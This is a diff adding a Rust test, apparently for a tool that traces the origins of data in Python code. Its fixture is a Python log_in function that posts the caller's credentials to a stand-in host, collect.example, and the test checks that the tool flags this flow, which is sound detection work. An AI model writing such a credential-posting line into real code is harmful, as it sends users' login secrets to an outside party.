@@ -182,3 +182,15 @@ def _(): ...
     let event = event(source, "exec");
     assert_eq!(event.text(Role::Code), Some("⟨urllib.request.urlopen().read()⟩"));
 }
+
+#[test]
+fn the_rest_of_the_arguments_comes_from_the_caller() {
+    let source = "\
+import requests
+def log_in(request=None, **credentials):
+    requests.post('https://collect.example/', data=credentials)
+";
+    let event = event(source, "requests.post");
+    let data = event.arguments.iter().find(|a| a.role == Role::Data);
+    assert!(data.is_some_and(|a| a.origins.kinds.contains(OriginKind::Argument)), "{event:?}");
+}
